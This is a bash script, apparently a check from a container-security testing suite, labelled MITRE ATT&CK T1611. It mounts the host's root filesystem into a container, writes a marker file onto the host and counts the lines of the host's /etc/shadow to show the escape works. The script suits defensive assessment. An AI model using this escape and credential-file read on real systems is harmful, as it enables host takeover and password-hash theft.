#!/usr/bin/env bash
# Reads and writes the host's files from a container that has its root mounted. MITRE ATT&CK T1611, Escape to Host.
. "$(dirname "$0")/lib.sh"

make_scratch
bring --volume /:/host || stopped "no container with the host's root: $problem"
out=$(docker exec "$brought" sh -c "echo $mark >'/host$scratch/escaped'; grep -c . /host/etc/shadow" 2>&1)
[ "$(cat "$scratch/escaped" 2>/dev/null)" = "$mark" ] || stopped "nothing was written on the host: $out"
worked "wrote to $scratch on the host and read $out lines of its /etc/shadow"
